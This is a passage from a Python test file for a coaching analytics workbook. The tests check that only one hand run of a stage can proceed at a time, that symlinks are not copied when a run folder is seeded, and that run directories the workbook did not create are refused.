    again, _ = handrun.prepare("demo", "01_data_intake", root=tmp_path)  # re-running the cell: same kernel
    assert again == folder
    code = ("import sys; from pathlib import Path; from coaching_roi import handrun\n"
            "handrun.prepare('demo', '01_data_intake', root=Path(sys.argv[1]))")
    res = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True)
    assert res.returncode != 0 and "Another hand run of 01_data_intake for 'demo'" in res.stderr


def test_hand_run_seeds_from_the_run_but_never_copies_links(tmp_path):
    from coaching_roi import handrun

    run = tmp_path / "demo"
    (run / "data").mkdir(parents=True)
    safety.write_marker(run, "demo")
    (run / "data" / "01_reps.parquet").write_bytes(b"x")
    outside = tmp_path / "outside.txt"
    outside.write_text("secret")
    (run / "data" / "link.parquet").symlink_to(outside)
    folder, seeded = handrun.prepare("demo", "02_behavioral_scoring", root=tmp_path)
    assert seeded == run
    assert (folder / "data" / "01_reps.parquet").read_bytes() == b"x"
    assert not (folder / "data" / "link.parquet").exists()


def test_explicit_run_dir_that_the_workbook_did_not_make_is_refused(tmp_path):
    from coaching_roi import nbsupport

    mine = tmp_path / "home"
    mine.mkdir()
    (mine / "thesis.docx").write_text("mine")
    with pytest.raises(WorkbookError, match="did not make"):
        nbsupport._check_run_dir(mine)
    nbsupport._check_run_dir(tmp_path / "new_folder")  # a new folder is fine
